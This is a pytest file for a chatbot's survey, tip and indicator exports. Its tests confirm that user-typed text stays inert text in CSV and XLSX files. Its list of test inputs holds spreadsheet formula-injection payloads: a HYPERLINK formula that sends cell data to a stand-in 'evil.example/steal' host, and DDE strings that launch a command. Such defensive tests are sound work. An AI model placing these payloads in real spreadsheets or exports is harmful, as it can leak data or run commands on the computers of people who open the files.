"""What citizens and staff type never becomes a live formula in an export (survey CSV/XLSX, the reports'
workbook, the indicators' report): in XLSX it is a string cell, in CSV a leading apostrophe keeps it text."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from bot.core.models import SurveyWave
from handlers.indicators import export as indicator_export
from handlers.indicators import plan, progress
from handlers.router import Router
from handlers.survey import definition as survey_definition
from handlers.survey import export as survey_export
from handlers.survey.scoring import Report
from handlers.tips import export as tips_export
from knowledge.service import KnowledgeService
from tests.helpers import Person, Reporter

ZONE = ZoneInfo("Asia/Shanghai")

HOSTILE = ['=HYPERLINK("http://evil.example/steal?d="&A2,"详情")', "\t=1+1", "\r=1+1", "+SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]


def _no_formula_in(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in book.read(n).decode() for n in sheets)


def _texts(xlsx: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(xlsx))
    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]


@pytest.fixture
def staffed(knowledge: KnowledgeService, sessions: sessionmaker[Session]) -> Router:
    router = Router(knowledge, sessions, staff_ids=frozenset({"terminal:boss"}),
                    survey_definition=survey_definition.load(), survey_salt="pepper")
    return router


@pytest.mark.parametrize("comment", HOSTILE)
def test_a_survey_comment_stays_text_in_the_csv_and_the_workbook(staffed: Router, sessions: sessionmaker[Session],
                                                                 comment: str) -> None:
    Person(staffed, "boss").says("/survey_open 2026Q4")
    person = Person(staffed, "p1")
    person.says("/survey")
    person.presses("同意")
    person.presses("权利人（企业）")
    person.presses("精河县")
    for _ in range(12):
        person.presses("满意")
    person.says(comment)
    assert "调查完成" in person.text
    definition = survey_definition.load()
    with sessions() as session:
        wave = session.scalars(select(SurveyWave)).one()
        csv_text = survey_export.to_csv(session, definition, wave, ZONE).decode("utf-8-sig")
        report = Report(wave.name, 1, 80.0, None, 85.0, 76.91, {}, {}, {}, None)
        xlsx = survey_export.to_xlsx(session, definition, wave, report, ZONE)
    fields = [f.strip('"') for line in csv_text.splitlines()[1:] for f in line.split(",")]
    assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in fields)
    _no_formula_in(xlsx)
    kept = comment.strip()  # what the survey keeps of a comment
    assert (kept, "s") in _texts(xlsx)


def test_a_report_description_and_contact_stay_text_in_the_monthly_workbook(
        staffed: Router, sessions: sessionmaker[Session]) -> None:
    reporter = Reporter(staffed, "u1")
    reporter.says("/tip")
    reporter.presses("商标")
    reporter.presses("跳过")
    reporter.presses("网上")
    reporter.says("+精河枸杞 http://shop.example/1")
    reporter.says(HOSTILE[0])
    reporter.presses("跳过")
    reporter.says("=1+1")
    reporter.presses("提交")
    assert "WQ" in reporter.text
    start, end = tips_export.month_range(dt.datetime.now(ZONE).year, dt.datetime.now(ZONE).month, ZONE)
    with sessions() as session:
        xlsx = tips_export.to_xlsx(session, ZONE, start, end, include_contacts=True)
    _no_formula_in(xlsx)
    cells = _texts(xlsx)
    assert (HOSTILE[0], "s") in cells and ("=1+1", "s") in cells


def test_a_staff_typed_indicator_source_stays_text_in_the_report(sessions: sessionmaker[Session]) -> None:
    plans = plan.load_plans()
    with sessions.begin() as session:
        progress.record(session, plans, "gi-logo-enterprises", "2025", "25", HOSTILE[0], "cli",
                        dt.datetime.now(dt.UTC))
    with sessions() as session:
        xlsx = indicator_export.to_xlsx(progress.statuses(session, plans), ZoneInfo("Asia/Shanghai"))
    _no_formula_in(xlsx)
    assert (HOSTILE[0], "s") in _texts(xlsx)
